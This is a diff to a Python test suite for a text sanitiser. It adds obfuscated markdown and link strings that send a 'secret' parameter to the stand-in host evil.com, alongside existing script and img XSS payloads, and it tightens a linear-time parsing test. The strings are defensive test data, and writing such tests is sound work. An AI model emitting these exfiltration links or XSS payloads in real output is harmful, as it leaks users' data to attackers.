@@ -107,6 +107,20 @@ ATTACKS = [
     "xmailto:help@ok.example?body=secret",
     "请mailto:help@ok.example?body=secret",
     f"请看{EVIL}了解",
+    # What goes on with what stood before, once the link or image around it is gone
+    "//![evil.com](x)/c?d=secret",
+    ":\\evil\\.com/c?d=secret",
+    "//[evil.com](javascript:x)/c?d=secret",
+    "//[evil.com/c?d=secret](https://evil.com)",
+    "//![](x)evil.com/c?d=secret",
+    "//<https://>evil.com/c?d=secret",
+    "www![.evil.com/c](x)?d=secret",
+    "help@ok.example![.evil.com](x)",
+    "help@ok.example[.evil.com](javascript:x)",
+    "help@ok.example_![.evil.com](x)",
+    "help@ok.example\\.evil.com",
+    f"~~![~](x)\n```\n~~~\n![x]({EVIL})",
+    f"~[~~](javascript:x)\n```\n~~~\n![x]({EVIL})",
     # HTML
     "<script>alert(1)</script>",
     f'<img src="{EVIL}">',
@@ -260,11 +274,11 @@ def test_no_more_than_four_kilobytes_are_held_back(begun: str) -> None:
     assert given_out > 0 or set(begun) <= {"`", "~"}
 
 
-@pytest.mark.parametrize("unit", ["[a](", "[a](x", "![a](x)", "&#", "a.b/", "@", "`|`[", "//"])
+@pytest.mark.parametrize("unit", ["[a](", "[a](x", "![a](x)", "&#", "a.b/", "@", "`|`["])
 def test_a_text_made_to_be_slow_is_read_in_linear_time(unit: str) -> None:
     began = time.process_time()
-    safe(unit * (30_000 // len(unit)))
-    assert time.process_time() - began < 3
+    safe(unit * (50_000 // len(unit)))
+    assert time.process_time() - began < 1
 
 
 def test_plain_text_is_not_held_back() -> None:
